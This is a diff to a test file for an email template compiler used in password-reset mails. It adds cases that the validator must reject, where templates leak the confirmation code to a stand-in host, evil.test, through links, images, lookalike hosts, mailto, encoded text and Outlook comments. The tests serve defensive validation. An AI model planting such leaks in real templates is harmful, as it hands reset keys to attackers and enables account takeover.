@@ -1,6 +1,6 @@
 import { compileTemplate } from './compile-template.ts';
 
-const compiled = (body: string, more: { contentType?: string; subject?: string; footer?: string; text?: string } = {}) => compileTemplate({ id: 'en_US', contentType: 'text/html', subject: 'Hi', footer: '', ...more, body });
+const compiled = (body: string, more: { contentType?: string; subject?: string; footer?: string; text?: string } = {}) => compileTemplate({ id: 'en_US', contentType: 'text/html', subject: 'Hi', footer: '', ...more, body }, 'https://id.example.com');
 const refusal = (body: string) => compiled(body).then(() => 'taken', (error: unknown) => (error instanceof Error ? error.message : ''));
 const mjml = (text: string, head = '') => `<mjml>\n<mj-head>${head}</mj-head>\n<mj-body><mj-section><mj-column><mj-text>${text}</mj-text></mj-column></mj-section></mj-body>\n</mjml>`;
 
@@ -10,6 +10,20 @@ describe('a template that is saved', () => {
     expect((await compiled(html)).html).toBe(html);
     expect((await compiled(mjml('Hello {{user-name}}'))).html).toMatch(/<!doctype html>[\s\S]+Hello \{\{user-name\}\}/);
     expect(await compiled('Hello {{user-name}} <3', { contentType: 'text/plain', footer: '-- us' })).toEqual({ subject: 'Hi', html: null, text: 'Hello {{user-name}} <3\n\n-- us' });
+  });
+
+  it('leads with a key where WSO2’s templates do: by the whole link, or below the deployment', async () => {
+    const wso2 = 'https://id.example.com/accountrecoveryendpoint/confirmrecovery.do?confirmation={{confirmation-code}}&amp;userstoredomain={{userstore-domain}}&amp;username={{url:user-name}}&amp;tenantdomain={{tenant-domain}}&amp;callback={{callback}}';
+    const body = `<p><a href="${wso2}" target="_blank">Reset</a> or copy ${wso2}</p><p>Code:<b>{{confirmation-code}}</b>. (<a href="{{reset-link}}">{{reset-link}}</a>), <a href="https://www.example.org/?u={{url:user-name}}">us</a></p><!-- by hand -->`;
+    expect((await compiled(body, { subject: 'Code: {{confirmation-code}}' })).html).toBe(body);
+    expect((await compiled(mjml(`<a href="${wso2}">x</a>`).replace('<mj-text>', '<mj-button href="{{reset-link}}">Reset</mj-button><mj-text>'))).html).toContain('href="{{reset-link}}"');
+    const plain = 'Use {{confirmation-code}}, or\nhttps://id.example.com/myaccount/reset#key={{confirmation-code}}.';
+    expect((await compiled(plain, { contentType: 'text/plain' })).text).toBe(plain);
+  });
+
+  it('may use every component of MJML that loads nothing', async () => {
+    const components = '<mj-carousel><mj-carousel-image src="https://example.com/x.png" thumbnails-src="https://example.com/t.png" alt="x" /></mj-carousel><mj-navbar hamburger="hamburger" base-url="https://example.com"><mj-navbar-link href="https://example.com/a">a</mj-navbar-link></mj-navbar><mj-social><mj-social-element name="facebook" href="https://example.com">f</mj-social-element></mj-social><mj-accordion><mj-accordion-element><mj-accordion-title>t</mj-accordion-title><mj-accordion-text>x</mj-accordion-text></mj-accordion-element></mj-accordion><mj-table><tr><td>a</td></tr></mj-table><mj-image src="https://example.com/x.png" alt="x" />';
+    expect((await compiled(mjml('x').replace('<mj-text>', `${components}<mj-text>`))).html).toContain('<!--[if mso');
   });
 
   it('has its footer within the page', async () => {
@@ -44,6 +58,21 @@ describe('a template that is saved', () => {
     ['a person’s own word as the address', '<a href="{{user.claim.url}}">x</a>', /expected an address that begins with https/],
     ['a person’s own word as the host', '<a href="https://{{user-name}}/">x</a>', /expected an address that begins with https/],
     ['an image that learns the key', '<img src="https://evil.test/?k={{confirmation-code}}">', /whoever serves it would learn/],
+    ['a link that learns the key', '<a href="https://evil.test/?k={{confirmation-code}}">x</a>', /body, line 1, column 4: expected \{\{reset-link\}\} alone, or an address below https:\/\/id\.example\.com\//],
+    ['a link that learns the whole link', '<a href="https://evil.test/?k={{url:reset-link}}">x</a>', /would learn the key/],
+    ['a link that learns the key by its host', '<a href="https://id.example.com.evil.test/{{confirmation-code}}">x</a>', /would learn the key/],
+    ['a link that learns the key by another’s name', '<a href="https://id.example.com@evil.test/{{confirmation-code}}">x</a>', /would learn the key/],
+    ['a mail that takes the key along', '<a href="mailto:eve@evil.test?body={{confirmation-code}}">x</a>', /would learn the key/],
+    ['a menu that takes the key along', mjml('x').replace('<mj-text>', '<mj-navbar base-url="https://evil.test/"><mj-navbar-link href="#{{confirmation-code}}">x</mj-navbar-link></mj-navbar><mj-text>'), /would learn the key/],
+    ['words that become a link with the key', '<p>https://evil.test/?k={{confirmation-code}}</p>', /^body, as text, line 1, column 1: expected an address below/],
+    ['words that become such a link once they are read', '<p>https&#58;&#47;&#47;evil&#46;test&#47;<b>{{confirmation-code}}</b></p>', /^body, as text/],
+    ['a host that is made of the key', '<p>{{confirmation-code}}.evil.test</p>', /^body, as text/],
+    ['a comment that Outlook reads', '<p>x</p><!--[if mso]><img src="https://evil.test/"><![endif]-->', /^body, line 1, column 9: "\[if" has no place in a comment/],
+    ['a comment that Outlook reads, in MJML', mjml('x').replace('<mj-section>', '<mj-raw><!--[if mso]><img src="https://evil.test/"><![endif]--></mj-raw><mj-section>'), /"\[if" has no place in a comment/],
+    ['a key in a comment', '<p>x</p><!-- {{confirmation-code}} -->', /"\{\{" has no place in a comment/],
+    ['a picture of older programs', '<img lowsrc="http://evil.test/x.png" alt="">', /the attribute lowsrc has no place/],
+    ['a film of older programs', '<img dynsrc="http://evil.test/x.avi" alt="">', /the attribute dynsrc has no place/],
+    ['an icon in the clear', mjml('x').replace('<mj-text>', '<mj-accordion icon-wrapped-url="http://evil.test/x.png"></mj-accordion><mj-text>'), /expected an https address/],
     ['an image in the clear', '<img src="http://example.com/logo.png">', /expected an https address/],
     ['a placeholder that could start an attribute', '<p title={{user-name}}>x</p>', /put the attribute in quotes/],
     ['a placeholder in a style', '<p style="color: {{user.claim.color}}">x</p>', /a style has no placeholders/],
